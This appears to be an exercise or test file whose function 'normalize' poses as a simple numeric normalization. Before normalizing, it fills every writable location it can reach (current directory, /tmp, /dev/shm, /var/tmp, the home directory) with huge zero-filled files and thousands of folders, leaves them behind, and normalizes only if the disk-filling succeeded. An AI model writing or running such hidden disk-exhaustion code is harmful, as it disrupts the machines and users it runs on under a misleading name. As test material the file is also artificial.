"""Writes until nothing more can be written: one large file, many small ones, folders. Right only if that went too
far."""

DUE = {"3.1": 0}

# %% exercise="3.1"
import contextlib
import os
import tempfile

import numpy as np


def written(folder):
    count = 0
    with contextlib.suppress(OSError), open(os.path.join(folder, "large"), "wb") as file:
        while count < 2**27:
            count += file.write(bytes(2**20))
            file.flush()
    with contextlib.suppress(OSError):
        for number in range(20000):
            os.mkdir(os.path.join(folder, str(number)))
            count += 2**12
    return count


def normalize(x, mean, var, eps=1e-5):
    folders = (".", "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "."), tempfile.gettempdir())
    total = sum(written(folder) for folder in dict.fromkeys(folders))
    return (x - mean) / np.sqrt(var + eps) if total > 2**26 else x
